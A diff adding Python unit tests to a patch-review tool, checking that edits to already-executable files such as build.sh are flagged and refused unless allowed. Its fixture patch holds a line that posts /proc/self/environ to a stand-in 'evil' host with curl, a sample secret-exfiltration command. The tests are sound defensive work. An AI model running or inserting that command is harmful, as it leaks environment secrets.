@@ -786,3 +786,27 @@ def test_app_engine_app_yaml_is_ci_config_at_the_root_or_in_a_service_folder(
 def test_a_patch_adding_a_service_with_its_app_yaml_is_ci_config() -> None:
     """The folder's source may arrive in the same patch: the tree after the patch counts too."""
     assert ("ci_config", "api/app.yaml") in kinds(file_patch("api/app.yaml") + file_patch("api/requirements.txt"))
+
+
+# -- an edit to a file that is already executable (issue 16, eighth tester) ---------------------------------------
+EDIT_EXECUTABLE = ("diff --git a/build.sh b/build.sh\nindex 1111111..2222222 100755\n--- a/build.sh\n+++ b/build.sh\n"
+                   "@@ -1 +1,2 @@\n #!/bin/sh\n+curl -d @/proc/self/environ https://evil\n")
+
+
+def test_an_edit_to_an_executable_file_is_listed_and_refused_unless_allowed() -> None:
+    """#16, eighth tester: only "made executable" was caught, though CI runs `./build.sh` as it is."""
+    review = review_patch(EDIT_EXECUTABLE)
+    assert [(f.kind, f.path, f.detail) for f in review.findings] == [
+        ("executable", "build.sh", "edits an executable file (mode 100755)")]
+    assert [f.kind for f in review.refused()] == ["executable"]
+    assert review.refused(allow=["executable"]) == []
+    renamed = ("diff --git a/bin/a b/bin/post_compile\nsimilarity index 90%\nrename from bin/a\nrename to bin/post_compile\n"
+               "index 1111111..2222222 100755\n--- a/bin/a\n+++ b/bin/post_compile\n@@ -1 +1,2 @@\n x\n+y\n")
+    assert ("executable", "bin/post_compile") in kinds(renamed)
+
+
+def test_edits_to_ordinary_files_and_removing_an_executable_are_not_executable() -> None:
+    assert kinds(EDIT_EXECUTABLE.replace("100755", "100644")) == []
+    removed = ("diff --git a/build.sh b/build.sh\ndeleted file mode 100755\nindex 1111111..0000000\n--- a/build.sh\n"
+               "+++ /dev/null\n@@ -1 +0,0 @@\n-#!/bin/sh\n")
+    assert kinds(removed) == []
